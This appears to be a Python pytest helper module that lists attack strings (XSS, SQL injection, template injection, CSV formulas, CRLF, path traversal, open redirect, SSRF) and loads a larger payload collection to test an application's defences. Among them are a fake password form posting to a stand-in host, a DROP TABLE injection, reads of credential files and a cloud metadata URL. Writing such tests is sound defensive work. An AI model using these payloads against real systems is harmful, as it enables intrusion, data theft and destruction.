"""What attackers send: a few strings of our own for every class, and for `make prove` a whole collection.

The collection is a folder of CLASS.jsonl files, lines of {id, payload | payload_b64, filename?, envelope?}; it lies
beside the repository (PITCREW_ATTACKS names another place) and is no part of it.
"""

import base64
import json
import os
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

COLLECTION = Path(os.environ.get("PITCREW_ATTACKS", Path(__file__).parents[3] / "shared/attacks/dev"))

OWN: dict[str, list[str]] = {
    "html": [
        "<script>alert('a')</script>after",
        "<img src=x onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<a href='java\tscript:alert(1)'>press</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<form action='https://collect.example/'><input name=password><button>Sign in again</button></form>",
        "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
        "<base href='https://elsewhere.example/'><a href='next'>next</a>",
        "<iframe src='https://elsewhere.example/'></iframe><object data='x.swf'></object><embed src='x'>",
        "<link rel=stylesheet href='https://elsewhere.example/a.css'><style>@import 'https://elsewhere.example/b';</style>",
        "<div style=\"background:url('https://elsewhere.example/c.png');position:fixed;inset:0;z-index:9\">over</div>",
        "<table background='https://elsewhere.example/d.png'><tr><td>cell</td></tr></table>",
        "<img srcset='https://elsewhere.example/e.png 1x' src='https://elsewhere.example/f.png'>",
        "<video poster='https://elsewhere.example/g.png' src='https://elsewhere.example/h.mp4' autoplay></video>",
        "<p onclick=\"fetch('/history/undo/')\">click</p></body></html><p>behind the end</p>",
        "'\"><script src='https://elsewhere.example/i.js'></script>",
        "<div class='told is-refusal' id='told'>Your session has ended</div><li class='item note'>not a note</li>",
        "<a href='#' hx-get='/history/' hx-trigger='load'>htmx</a><b data-act='trash'>trash</b>",
    ],
    "text": [
        "'; DROP TABLE conversations_message; --",
        '" OR "1"="1',
        "{{ 7*7 }}${7*7}<%= 7*7 %>#{7*7}{7*7}",
        "{customer.name.__class__.__init__.__globals__}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "=HYPERLINK('https://elsewhere.example','open')",
        "+1+cmd|'/C calc'!A0",
        "\u202egnp.exe\u202c and \u2066hidden\u2069",
        "\ufeffA\u200bna\u00a0Ruiz",
        "Z\u0335\u0321a\u0337\u0322l\u0335g\u0336o\u0338",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea \ufdfd",
        "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
        "undefined null NaN -1 0x10 1e309 true",
        "%s %n %(asctime)s {0} \\x41 \\u0041 $(id) `id`",
        "../../../../etc/passwd",
        "<b>not bold</b> &amp; &#x41;",
        'is:open from: tag:"unclosed before:2026-13-45 #',
    ],
    "broken": [
        "a\r\nBcc: all@elsewhere.example",
        "b\nSet-Cookie: c=d",
        "e\x0bf\x1cg\x85h\u2028i\u2029j",
        "k%0d%0aX-L: m",
    ],
    "path": [
        "../../secret-key",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\boot.ini",
        "....//....//secret-key",
        "..%2f..%2fsecret-key",
        "..%c0%afsecret-key",
        "a/b/../../c",
        "file:///etc/passwd",
        ".htaccess",
        "report.pdf\u202excod.exe",
        "line\r\nX-Injected: yes",
        "~/.ssh/id_rsa",
        "con",
    ],
    "redirect": [
        "https://elsewhere.example/",
        "//elsewhere.example",
        "///elsewhere.example",
        "/\\elsewhere.example",
        "\\\\elsewhere.example",
        "/\t/elsewhere.example",
        "/%09/elsewhere.example",
        "http:elsewhere.example",
        "javascript:alert(1)",
        "data:text/html,x",
        "https://pitcrew.example@elsewhere.example/",
        "/\r\nLocation: https://elsewhere.example",
        ".elsewhere.example",
        "//elsewhere.example/%2f..",
        "https:///elsewhere.example",
    ],
    "address": [
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:127.0.0.1]/",
        "gopher://127.0.0.1:25/_MAIL",
        "file:///etc/passwd",
        "127.0.0.1:6379/\r\nFLUSHALL",
        "http://0x7f000001/",
        "localhost#@imap.company.test",
        "imap.company.test/../../",
    ],
}

CLASSES = {
    "html": ("xss-html", "html-benign-preserve", "url-scheme"),
    "text": ("naughty-string", "unicode", "template-injection", "csv-formula", "sqli", "orm-leak", "redos"),
    "broken": ("crlf",),
    "path": ("path-traversal",),
    "redirect": ("open-redirect", "url-scheme", "crlf"),
    "address": ("ssrf-url", "url-scheme"),
    "file": ("active-attachment",),
    "spoof": ("sender-spoof",),
    "smuggle": ("smtp-smuggling",),
}


@dataclass(frozen=True)
class Vector:
    """One thing an attacker sends."""

    name: str
    raw: bytes
    more: dict[str, Any] = field(default_factory=dict, hash=False)

    @property
    def text(self) -> str:
        return self.raw.decode("utf-8", "replace")


def vectors(source: str, kind: str) -> list[Vector]:
    """Those of this kind: of our own (``source`` "own"), or of the whole collection."""
    if source == "own":
        return [Vector(f"own-{kind}-{n}", text.encode()) for n, text in enumerate(OWN[kind])]
    return [vector for name in CLASSES[kind] for vector in collected(name)]


def collected(name: str) -> list[Vector]:
    """One class of the collection. Fails with a sentence where there is none."""
    path = COLLECTION / f"{name}.jsonl"
    if not path.is_file():
        pytest.fail(
            f"The collection of attacks is not there: {path}. Put it there, or name its folder in PITCREW_ATTACKS."
        )
    rows = [json.loads(line) for line in path.read_text("utf-8", "surrogateescape").split("\n") if line.strip()]
    return [Vector(row["id"], _bytes(row), row) for row in rows]


def _bytes(row: dict[str, Any]) -> bytes:
    if "payload" in row:
        return str(row["payload"]).encode("utf-8", "surrogateescape")
    return base64.b64decode(row["payload_b64"])


both = pytest.mark.parametrize("source", ["own", pytest.param("collection", marks=pytest.mark.prove)])
